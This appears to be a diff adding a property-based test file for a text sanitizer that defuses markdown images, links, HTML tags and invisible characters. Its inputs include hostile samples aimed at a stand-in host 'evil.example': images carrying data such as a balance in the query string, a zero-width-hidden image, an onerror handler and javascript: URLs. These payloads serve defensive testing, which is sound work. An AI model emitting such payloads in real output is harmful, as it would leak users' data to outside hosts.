@@ -1,0 +1,46 @@
+import fc from "fast-check";
+import { expect, test } from "vitest";
+import { safeText, withoutUnseen } from "./safe-text.ts";
+
+test("an image fetches nothing", () => {
+  expect(safeText("![chart](https://evil.example/p.png?balance=12)")).toBe("[chart] (evil.example)");
+  expect(safeText("![a][b]\n\n[b]: https://evil.example/x?y=1")).toBe("[a] [b]\n\n[b] : evil.example");
+  expect(safeText('<img src="https://evil.example/x?y=1" onerror=go()>')).not.toMatch(/<img|\/x/);
+});
+
+test("a link leaves its words and the name of its host", () => {
+  expect(safeText("See [the docs](https://www.example.org/a/b?c=d#e).")).toBe(
+    "See [the docs] (example.org).",
+  );
+  expect(safeText("https://owner:1234@evil.example/12")).toBe("evil.example");
+  expect(safeText("<https://evil.example/12>")).toBe("< evil.example>");
+  expect(safeText("www.evil.example/12 and //evil.example/34")).toBe("evil.example and evil.example");
+  expect(safeText("[open](/rpc/accounts.delete)")).toBe("[open] (/rpc/accounts.delete)");
+  expect(safeText("[x](javascript:alert(1)) [y](data:text/html,z)")).toBe("[x] (alert(1)) [y] (text/html,z)");
+});
+
+test("characters that show nothing are gone, so nothing hides behind them", () => {
+  expect(safeText("!\u200b[x](https://evil.example/1)")).toBe("[x] (evil.example)");
+  expect(withoutUnseen("a\u202eb\u0007c\u{e0041}d\te\n")).toBe("abcd\te\n");
+});
+
+test("tables, code, comparisons, figures and asset ids stay as they are", () => {
+  const text =
+    "| Coin | Value |\n|---|---:|\n| ETH | **1,234.50** |\n\n`WHERE a < 3 AND b > 2`\n\n1. eip155:1/erc20:0xabc at 12:30: 5 < 6";
+  expect(safeText(text)).toBe(text);
+});
+
+test("no text comes out with an image, a link or a tag in it, and a second pass changes nothing", () => {
+  const pieces = fc.constantFrom(
+    "![", "](", "][", "]:", "[", "]", "(", ")", "<", ">", "img src=", "https://", "e.example/q?d=1", "//",
+    "www.", "javascript:", "\u200b", " ", "\n", "x", "!", "/", "@",
+  ); // prettier-ignore
+  fc.assert(
+    fc.property(fc.array(pieces, { maxLength: 14 }), (parts) => {
+      const safe = safeText(parts.join(""));
+      expect(safe).not.toMatch(/!\[|\]\(|\]\[|\]:|<[a-z/!?]|:\/\/|(^|[^\w.@-])www\.\w|javascript:\S/i);
+      expect(safeText(safe)).toBe(safe);
+    }),
+    { numRuns: 2_000 },
+  );
+});
